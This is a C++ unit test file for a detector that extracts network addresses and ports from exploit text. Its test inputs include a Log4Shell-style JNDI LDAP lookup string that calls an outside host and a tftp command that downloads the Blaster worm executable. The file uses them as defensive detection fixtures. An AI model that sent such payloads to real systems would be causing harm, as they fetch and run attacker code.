#include "detect/named_address.h"

#include <gtest/gtest.h>

namespace cordon::detect {
namespace {

std::vector<std::string> named(std::string_view exploit) {
  std::vector<std::string> texts;
  for (const auto& endpoint : named_addresses(bytes_of(exploit))) texts.push_back(endpoint.text());
  return texts;
}

using Texts = std::vector<std::string>;

TEST(NamedAddresses, AreFoundWithTheirPorts) {
  EXPECT_EQ(named("${jndi:ldap://45.58.177.50:1389/Rsc}"), Texts{"45.58.177.50:1389"});
  EXPECT_EQ(named("tftp -i 10.0.0.1 GET msblast.exe"), Texts{"10.0.0.1:0"});
  EXPECT_EQ(named("0 3 http://10.0.0.1:12345/printers/x 10.0.0.1:12345 10.0.0.2"),
            (Texts{"10.0.0.1:12345", "10.0.0.2:0"}));
}

TEST(NamedAddresses, VersionsAndNumbersAreNone) {
  EXPECT_EQ(named("Mozilla/5.0 1.2.3.4.5 999.1.1.1 1.2.3 x1.2.3.256"), Texts{});
  EXPECT_EQ(named("224.0.0.1 0.0.0.0"), Texts{});
  EXPECT_EQ(named("10.0.0.1:99999"), Texts{"10.0.0.1:0"});
}

TEST(NamedAddresses, AreBounded) {
  std::string many;
  for (int i = 1; i < 100; ++i) many += "10.0.0." + std::to_string(i) + " ";
  EXPECT_EQ(named(many).size(), kMostNamed);
}

}  // namespace
}  // namespace cordon::detect
